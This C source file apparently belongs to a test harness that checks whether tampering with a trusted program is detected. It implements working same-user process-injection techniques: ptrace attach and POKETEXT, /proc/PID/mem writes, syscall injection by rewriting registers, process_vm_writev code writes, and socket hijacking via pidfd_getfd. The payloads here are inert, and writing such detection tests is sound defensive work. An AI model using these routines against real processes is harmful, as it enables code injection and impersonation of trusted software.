// The trusted program runs, and someone else of its user changes or drives it (A5).
#include "attacker.h"

#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

// Where the trusted program's text is, as the kernel shows it.
static uintptr_t text_of(pid_t pid) {
    char path[40], line[600];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    uintptr_t start = 0;
    while (maps && !start && fgets(line, sizeof line, maps)) {
        unsigned long from;
        if (strstr(line, trusted_path) && strstr(line, " r-xp ") && sscanf(line, "%lx-", &from) == 1) start = from;
    }
    if (maps) fclose(maps);
    if (!start) broken("text of the trusted program not found");
    return start;
}

// Rewrites one byte of its text with what is there already: enough to make the page the process's own.
static void write_memory(struct victim *v) {
    char path[40], byte;
    off_t at = (off_t)text_of(v->pid);
    snprintf(path, sizeof path, "/proc/%d/mem", v->pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) unsupported("/proc/PID/mem of an own process");
    if (pread(fd, &byte, 1, at) != 1) broken("read text");
    if (pwrite(fd, &byte, 1, at) != 1) unsupported("writing text through /proc/PID/mem");
    close(fd);
}

static void attach(struct victim *v) {
    if (ptrace(PTRACE_ATTACH, v->pid, 0, 0) != 0) unsupported("ptrace of an own process");
    waitpid(v->pid, NULL, __WALL);
}

static int finish(struct victim *v) {
    say_line(v->in);
    return relay_verdict(v);
}

static int through_proc_mem(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (attacking) write_memory(&v);
    return finish(&v);
}

static int poketext(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (attacking) {
        attach(&v);
        void *at = (void *)text_of(v.pid);
        long word = ptrace(PTRACE_PEEKTEXT, v.pid, at, 0);
        if (ptrace(PTRACE_POKETEXT, v.pid, at, word) != 0) broken("POKETEXT");
        ptrace(PTRACE_DETACH, v.pid, 0, 0);
    }
    return finish(&v);
}

static int attach_and_detach(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (attacking) {
        attach(&v);
        ptrace(PTRACE_DETACH, v.pid, 0, 0);
    }
    return finish(&v);
}

// Stays attached, with the process running.
static int traced(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (attacking && ptrace(PTRACE_SEIZE, v.pid, 0, 0) != 0) unsupported("ptrace of an own process");
    return finish(&v);
}

// Traced from its first instruction on, as a debugger starts it, and let go before it connects.
static int traced_from_the_start(void) {
    struct victim v = start_trusted(trusted_path, "later", attacking);
    char line[64];
    if (attacking) {
        waitpid(v.pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, v.pid, 0, 0);
        if (read(v.out, line, sizeof line) <= 0) broken("the trusted program said nothing");
    }
    return finish(&v);
}

#if defined(__x86_64__)
// Makes a stopped process call the kernel, with the syscall instruction that it waits on.
static long inject(struct victim *v, long number, long a, long b, long c) {
    struct user_regs_struct before, during;
    if (ptrace(PTRACE_GETREGS, v->pid, 0, &before) != 0) broken("GETREGS");
    during = before;
    during.rip = before.rip - 2;
    during.rax = (unsigned long long)number;
    during.rdi = (unsigned long long)a;
    during.rsi = (unsigned long long)b;
    during.rdx = (unsigned long long)c;
    during.orig_rax = (unsigned long long)-1;
    if (ptrace(PTRACE_SETREGS, v->pid, 0, &during) != 0) broken("SETREGS");
    if (ptrace(PTRACE_SINGLESTEP, v->pid, 0, 0) != 0) broken("SINGLESTEP");
    waitpid(v->pid, NULL, __WALL);
    ptrace(PTRACE_GETREGS, v->pid, 0, &during);
    ptrace(PTRACE_SETREGS, v->pid, 0, &before);
    return (long)during.rax;
}
#endif

// Attaches, has the text made writable, writes with process_vm_writev, has it made executable again, detaches.
static int inject_with_process_vm_writev(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (!attacking) return finish(&v);
#if defined(__x86_64__)
    nap(0.05); // blocked in read() by now
    attach(&v);
    uintptr_t text = text_of(v.pid);
    if (inject(&v, SYS_mprotect, (long)text, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) broken("injected call");
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)text, 1};
    if (process_vm_readv(v.pid, &here, 1, &there, 1, 0) != 1) broken("process_vm_readv");
    if (process_vm_writev(v.pid, &here, 1, &there, 1, 0) != 1) unsupported("process_vm_writev");
    if (inject(&v, SYS_mprotect, (long)text, 4096, PROT_READ | PROT_EXEC) != 0) broken("injected call");
    ptrace(PTRACE_DETACH, v.pid, 0, 0);
    return finish(&v);
#else
    unsupported("the injection is written for x86-64");
#endif
}

// Makes it execute what it maps: anonymous memory, filled from outside.
static int inject_anonymous_code(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (!attacking) return finish(&v);
#if defined(__x86_64__)
    nap(0.05);
    attach(&v);
    // The program break is anonymous memory of its own.
    uintptr_t brk = (uintptr_t)inject(&v, SYS_brk, 0, 0, 0);
    uintptr_t more = (uintptr_t)inject(&v, SYS_brk, (long)(brk + 0x3000), 0, 0);
    uintptr_t page = (more - 0x2000) & ~0xffful;
    if (inject(&v, SYS_mprotect, (long)page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) broken("injected call");
    char code[] = "\xc3";
    struct iovec here = {code, 1}, there = {(void *)page, 1};
    if (process_vm_writev(v.pid, &here, 1, &there, 1, 0) != 1) unsupported("process_vm_writev");
    ptrace(PTRACE_DETACH, v.pid, 0, 0);
    return finish(&v);
#else
    unsupported("the injection is written for x86-64");
#endif
}

#if defined(__x86_64__)
static struct victim driven;
static int driven_fd;
static uintptr_t driven_room;

// Has the trusted program itself write, and lets it go again at once.
static ssize_t say_through_victim(struct talk *t, const void *bytes, size_t count) {
    (void)t;
    struct iovec here = {(void *)bytes, count}, there = {(void *)driven_room, count};
    attach(&driven);
    if (process_vm_writev(driven.pid, &here, 1, &there, 1, 0) != (ssize_t)count) unsupported("process_vm_writev");
    long said = inject(&driven, SYS_write, driven_fd, (long)driven_room, (long)count);
    ptrace(PTRACE_DETACH, driven.pid, 0, 0);
    return said;
}
#endif

// Nothing of its code is touched: the trusted program is made to connect and to speak, and its socket is shared.
static int inject_connection(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (!attacking) return finish(&v);
#if defined(__x86_64__)
    static struct talk t;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path, socket_path);
    driven = v;
    nap(0.05);
    attach(&driven);
    uintptr_t brk = (uintptr_t)inject(&driven, SYS_brk, 0, 0, 0);
    driven_room = (uintptr_t)inject(&driven, SYS_brk, (long)(brk + 0x3000), 0, 0) - 0x2000;
    struct iovec here = {&address, sizeof address}, there = {(void *)driven_room, sizeof address};
    if (process_vm_writev(driven.pid, &here, 1, &there, 1, 0) != sizeof address) unsupported("process_vm_writev");
    driven_fd = (int)inject(&driven, SYS_socket, AF_UNIX, SOCK_STREAM, 0);
    if (inject(&driven, SYS_connect, driven_fd, (long)driven_room, sizeof address) != 0) broken("injected connect");
    ptrace(PTRACE_DETACH, driven.pid, 0, 0);
    int pidfd = (int)syscall(SYS_pidfd_open, driven.pid, 0);
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, driven_fd, 0);
    if (fd < 0) unsupported("pidfd_getfd of an own process");
    t = talk_over(fd);
    t.say = say_through_victim;
    request(&t);
    hear(&t, 1, 6);
    report(&t, "said by the trusted program");
    return 0;
#else
    unsupported("the injection is written for x86-64");
#endif
}

// Data only: no ptrace event, no page of code touched. What this could do is what reusing approved code can do.
static int data_with_process_vm_writev(void) {
    struct victim v = start_trusted(trusted_path, "later", false);
    if (attacking) {
        char path[40], line[600];
        unsigned long from = 0;
        snprintf(path, sizeof path, "/proc/%d/maps", v.pid);
        FILE *maps = fopen(path, "r");
        while (maps && fgets(line, sizeof line, maps))
            if (strstr(line, "[stack]")) sscanf(line, "%*x-%lx", &from);
        if (maps) fclose(maps);
        char byte = 'x';
        struct iovec here = {&byte, 1}, there = {(void *)(from - 1), 1};
        if (process_vm_writev(v.pid, &here, 1, &there, 1, 0) != 1) unsupported("process_vm_writev");
    }
    return finish(&v);
}

// --- After the stream was opened (A12) ------------------------------------------------------------

// The trusted program has its stream; the next push must find it out. `tamper` does what it does.
static int during_a_stream(void (*tamper)(struct victim *)) {
    struct victim v = start_trusted(trusted_path, "watch", false);
    if (attacking) tamper(&v);
    char note[40];
    snprintf(note, sizeof note, "%d", v.pid);
    staged(note); // the test makes the agent push
    return relay_verdict(&v);
}

static void attach_for_a_moment(struct victim *v) {
    attach(v);
    ptrace(PTRACE_DETACH, v->pid, 0, 0);
}

static void seize(struct victim *v) {
    if (ptrace(PTRACE_SEIZE, v->pid, 0, 0) != 0) unsupported("ptrace of an own process");
}

static int stream_then_attach(void) { return during_a_stream(attach_for_a_moment); }
static int stream_then_seize(void) { return during_a_stream(seize); }
static int stream_then_patch(void) { return during_a_stream(write_memory); }

const struct attack patch_attacks[] = {
    {"patch-proc-mem", through_proc_mem},
    {"patch-poketext", poketext},
    {"attach-and-detach", attach_and_detach},
    {"traced", traced},
    {"traced-from-start", traced_from_the_start},
    {"inject-process-vm-writev", inject_with_process_vm_writev},
    {"inject-anonymous-code", inject_anonymous_code},
    {"inject-connection", inject_connection},
    {"data-process-vm-writev", data_with_process_vm_writev},
    {"stream-then-attach", stream_then_attach},
    {"stream-then-seize", stream_then_seize},
    {"stream-then-patch", stream_then_patch},
    {0},
};
